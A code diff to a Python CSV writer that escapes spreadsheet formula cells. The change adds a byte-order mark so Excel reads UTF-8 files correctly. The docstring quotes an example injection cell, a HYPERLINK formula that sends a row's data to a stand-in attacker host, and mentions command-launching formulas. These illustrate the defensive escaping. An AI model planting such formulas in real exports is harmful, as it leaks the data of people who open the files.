@@ -6,6 +6,9 @@ and Google Sheets run a cell starting with `=`, `+`, `-` or `@` (or a tab or car
 formula: `=HYPERLINK("https://evil.example/?"&B2, "Details")` in a name sends the row next to it away when the
 merchant clicks, and `=cmd|…` used to start programs. Such a cell is written with a leading `'`, which the
 spreadsheet reads as "this is text" (OWASP's advice for CSV injection). Amounts such as `-5.00` stay numbers.
+
+Each file starts with a byte-order mark: Excel opens a UTF-8 file without one in the system's code page ("Zoë"
+reads "ZoÃ«"); other spreadsheets and `encoding="utf-8-sig"` read past it.
 """
 
 from __future__ import annotations
@@ -17,6 +20,7 @@ from typing import Any
 
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")
+BYTE_ORDER_MARK = "\ufeff"
 
 
 def cell(value: Any) -> Any:
@@ -30,6 +34,7 @@ class Writer:
     """`csv.writer` whose every cell goes through `cell`."""
 
     def __init__(self, buffer) -> None:
+        buffer.write(BYTE_ORDER_MARK)
         self._writer = csv.writer(buffer, lineterminator="\r\n")
 
     def writerow(self, row: Iterable[Any]) -> None:
